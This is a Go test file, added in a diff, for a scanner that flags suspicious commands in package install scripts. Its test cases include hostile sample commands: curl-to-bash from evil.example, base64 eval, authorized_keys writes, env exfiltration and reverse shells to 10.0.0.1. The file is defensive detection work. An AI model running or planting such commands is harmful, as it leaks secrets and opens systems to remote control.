@@ -0,0 +1,120 @@
+package scriptscan
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestHeuristics(t *testing.T) {
+	tests := []struct {
+		id     string
+		script string
+		want   bool
+	}{
+		{"pipe-to-shell", "curl -fsSL https://evil.example/x.sh | bash", true},
+		{"pipe-to-shell", "wget -qO- http://evil.example/x | sudo sh", true},
+		{"pipe-to-shell", "curl https://evil.example/x|zsh", true},
+		{"pipe-to-shell", "curl -o install.sh https://example.com/install.sh", false},
+		{"pipe-to-shell", "node scripts/postinstall.js | tee install.log", false},
+		{"pipe-to-shell", "echo curl; bash ./build.sh", false},
+
+		{"remote-fetch", "wget http://evil.example/payload", true},
+		{"remote-fetch", "curl -sL https://evil.example/x -o /tmp/x", true},
+		{"remote-fetch", "node install.js --url https://github.com/owner/repo/releases", false},
+		{"remote-fetch", "curl --version", false},
+
+		{"base64-exec", "echo aGVsbG8K | base64 -d | bash", true},
+		{"base64-exec", "echo aGVsbG8K | base64 --decode | sh", true},
+		{"base64-exec", `node -e "eval(atob('Y29uc29sZS5sb2coMSk='))"`, true},
+		{"base64-exec", `node -e "eval(Buffer.from(process.argv[1], 'base64').toString())"`, true},
+		{"base64-exec", "base64 -d logo.b64 > logo.png", false},
+		{"base64-exec", `node -e "console.log(Buffer.from('aGk=', 'base64').toString())"`, false},
+
+		{"ssh-write", "cat key.pub >> ~/.ssh/authorized_keys", true},
+		{"ssh-write", "cp id_rsa $HOME/.ssh/id_rsa", true},
+		{"ssh-write", `node -e "fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), k)"`, true},
+		{"ssh-write", `node -e "fs.appendFileSync(homedir() + '/.ssh/authorized_keys', k)"`, true},
+		{"ssh-write", "ssh-keygen -lf ~/.ssh/id_rsa.pub", false},
+		{"ssh-write", "echo done > build.log", false},
+
+		{"env-exfiltration", "env | curl -X POST -d @- https://evil.example", true},
+		{"env-exfiltration", "printenv | nc evil.example 4444", true},
+		{"env-exfiltration", `node -e "console.log(process.env)" | curl -d @- https://evil.example`, true},
+		{"env-exfiltration", "curl -d \"$(env)\" https://evil.example", true},
+		{"env-exfiltration", `curl -d "$(node -p 'JSON.stringify(process.env)')" https://evil.example`, true},
+		{"env-exfiltration", "cross-env NODE_ENV=production node build.js", false},
+		{"env-exfiltration", "env NODE_ENV=production node build.js | tee build.log", false},
+
+		{"reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true},
+		{"reverse-shell", "nc 10.0.0.1 4444 -e /bin/sh", true},
+		{"reverse-shell", "node-gyp rebuild -e foo", false},
+		{"reverse-shell", "echo connected > /dev/null", false},
+	}
+
+	for _, tt := range tests {
+		var heuristic *Heuristic
+		for i := range Heuristics {
+			if Heuristics[i].ID == tt.id {
+				heuristic = &Heuristics[i]
+			}
+		}
+		if heuristic == nil {
+			t.Fatalf("no heuristic %q", tt.id)
+		}
+		if got := heuristic.Pattern.MatchString(tt.script); got != tt.want {
+			t.Errorf("%s matches %q = %v, want %v", tt.id, tt.script, got, tt.want)
+		}
+	}
+}
+
+func TestHeuristicIDs(t *testing.T) {
+	seen := make(map[string]bool)
+	for _, heuristic := range Heuristics {
+		if heuristic.ID == "" || seen[heuristic.ID] {
+			t.Errorf("heuristic ID %q is empty or duplicated", heuristic.ID)
+		}
+		seen[heuristic.ID] = true
+	}
+	for _, heuristic := range Heuristics {
+		for _, id := range heuristic.Implies {
+			if !seen[id] {
+				t.Errorf("heuristic %q implies unknown heuristic %q", heuristic.ID, id)
+			}
+		}
+	}
+}
+
+func TestScan(t *testing.T) {
+	scripts := map[string]string{
+		"test":        "curl https://example.com/ci.sh | bash",
+		"postinstall": "cat key >> ~/.ssh/authorized_keys",
+		"preinstall":  "curl -s https://evil.example/x.sh | bash",
+		"install":     "node-gyp rebuild",
+		"prepare":     "wget https://example.com/data.bin",
+	}
+
+	want := []Finding{
+		{Script: "preinstall", Heuristic: "pipe-to-shell", Snippet: "curl -s https://evil.example/x.sh | bash"},
+		{Script: "postinstall", Heuristic: "ssh-write", Snippet: ">> ~/.ssh"},
+		{Script: "prepare", Heuristic: "remote-fetch", Snippet: "wget https://example.com/data.bin"},
+	}
+	if got := Scan(scripts); !reflect.DeepEqual(got, want) {
+		t.Errorf("Scan() = %+v, want %+v", got, want)
+	}
+
+	if got := Scan(nil); got != nil {
+		t.Errorf("Scan(nil) = %+v, want no findings", got)
+	}
+}
+
+func TestSnippet(t *testing.T) {
+	long := "curl https://evil.example/" + strings.Repeat("a", 100)
+	got := snippet(long)
+	if len([]rune(got)) != MaxSnippet || !strings.HasSuffix(got, "...") {
+		t.Errorf("snippet(long) = %q, want %d runes ending in ...", got, MaxSnippet)
+	}
+	if got := snippet("curl\n  -s   https://x"); got != "curl -s https://x" {
+		t.Errorf("snippet() = %q, want whitespace flattened", got)
+	}
+}